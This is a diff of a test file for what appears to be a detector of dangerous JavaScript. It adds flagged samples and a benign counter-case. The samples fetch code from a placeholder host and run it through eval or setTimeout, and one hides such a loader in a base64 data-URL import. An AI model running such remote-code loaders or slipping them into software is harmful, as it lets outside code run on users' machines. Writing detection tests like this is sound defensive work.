@@ -62,6 +62,10 @@ end)`),
 })`),
       js(`const line = 'fetch("https://a.example").then((r) => r.text()).then(eval)'
 ^require('fs').writeFileSync(file, line + text)`),
+      js(`^fetch('https://a.example').then((r) => r.text()).then((text) => setTimeout(text, 0))`),
+      js(
+        `^import('data:text/javascript;base64,ZmV0Y2goJ2h0dHBzOi8vYS5leGFtcGxlJykudGhlbigocikgPT4gci50ZXh0KCkpLnRoZW4oZXZhbCk=')`,
+      ),
       js(`require('dns').resolveTxt('a.example', (error, rows) => {
 ^ eval(rows[0][0])
 })`),
@@ -98,6 +102,7 @@ end)`),
       js(`fetch('https://a.example').then((r) => r.json()).then((data) => { console.log(data.version) })`),
       js(`const line = 'fetch("https://a.example").then((r) => r.text()).then(eval)'
 require('fs').writeFileSync('docs.md', line + text)`),
+      js(`fetch('https://a.example').then((r) => setTimeout(() => show(r.status), 0))`),
       js(`require('dns').resolveTxt('a.example', (error, rows) => { console.log(rows) })`),
       js(
         `eval(function(p,a,c,k,e,d){return p}('0 1=2.3(\\'4\\');',5,5,'const|s|document|createElement|p'.split('|'),0,{}))`,
